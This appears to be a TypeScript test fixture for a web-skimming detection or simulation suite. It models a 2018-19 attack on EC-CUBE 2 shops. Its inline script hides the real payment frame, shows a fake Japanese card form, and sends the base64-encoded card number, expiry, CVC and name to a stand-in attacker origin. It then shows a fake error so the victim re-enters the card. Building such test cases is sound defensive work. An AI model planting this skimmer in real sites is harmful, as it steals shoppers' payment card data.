import { holds, js, skimmer } from '../behaviour.ts';
import { base64, bodies } from '../site/arrivals.ts';

export default skimmer({
  id: 'fake-form-before-frame',
  why: "The provider's frame is hidden, a form that looks like it asks first; it says that the card was not read, and the real frame comes back (EC-CUBE 2 shops, 2018-19).",
  covers: ['injection: fake form', 'hard: overlay', 'sending: fetch'],
  base: 'hosted',
  install: (site) =>
    site.inline(js`(function () {
  var real = document.getElementById('card-box');
  var fake = document.createElement('div');
  fake.innerHTML = '<label>カード番号<input autocomplete="cc-number"></label><label>有効期限<input autocomplete="cc-exp" placeholder="MM/YY"></label><label>セキュリティコード<input autocomplete="cc-csc"></label><label>カード名義人<input autocomplete="cc-name"></label>';
  real.before(fake);
  real.style.display = 'none';
  document.getElementById('checkout').addEventListener('submit', function (event) {
    if (!fake.isConnected) return;
    event.preventDefault();
    event.stopImmediatePropagation();
    var typed = Array.from(fake.querySelectorAll('input')).map(function (i) { return i.value; }).join('|');
    fetch('${site.origins.evil}/gate', { method: 'POST', mode: 'no-cors', body: btoa(typed) });
    fake.remove();
    real.style.display = '';
    var error = document.getElementById('payment-error');
    error.textContent = '通信エラーが発生しました。お手数ですがもう一度ご入力ください。';
    error.hidden = false;
  }, true);
})();`),
  proof: holds((arrived) => bodies(arrived).map(base64)),
});
